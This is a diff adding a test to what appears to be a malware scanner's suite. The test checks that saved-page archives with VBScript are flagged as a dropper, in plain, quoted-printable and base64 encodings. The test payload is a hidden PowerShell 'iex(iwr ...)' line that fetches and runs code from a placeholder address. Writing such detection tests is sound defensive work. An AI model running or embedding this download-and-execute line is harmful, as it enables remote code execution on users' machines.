@@ -245,6 +245,26 @@ suite('a script that only fetches is suspicious', () => {
   })
 })
 
+test('VBScript in a saved page runs, in a text part or an encoded one', () => {
+  const page = (script: string): string => `<html><script language=vbscript>${script}</script></html>`
+  const archive = (part: string, body: string): Buffer =>
+    Buffer.from(
+      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n\r\n--x\r\n${part}\r\n\r\n${body}\r\n--x--\r\n`,
+    )
+  const run = page('CreateObject("WScript.Shell").Run "powershell -w hidden iex(iwr http://192.0.2.1/a)"')
+  const plain = 'Content-Type: text/html\r\nContent-Location: http://x/a.htm'
+  for (const document of [
+    archive(plain, run),
+    archive(`Content-Transfer-Encoding: 8bit\r\n${plain}`, run),
+    archive(`${plain}\r\nContent-Transfer-Encoding: quoted-printable`, run.replaceAll('=', '=3D')),
+    archive(`Content-Transfer-Encoding: base64\r\n${plain}`, Buffer.from(run).toString('base64')),
+  ])
+    has(document, 'Script.Dropper')
+  harmless(archive(plain, page('MsgBox "a"')))
+  harmless(archive(plain, `<html>${run.replaceAll('<', '&lt;')}</html>`))
+  harmless(archive('Content-Type: text/plain', run))
+})
+
 suite('an encoded script', () => {
   test('is decoded', () => assert.equal(decodeScripts('#@~^CAAAAA==\\ko$K6,JAAAAAA==^#~@')[0], 'MsgBox "'))
   test('is decoded without its end', () => assert.equal(decodeScripts('#@~^CAAAAA==\\ko$K6,J')[0], 'MsgBox "'))
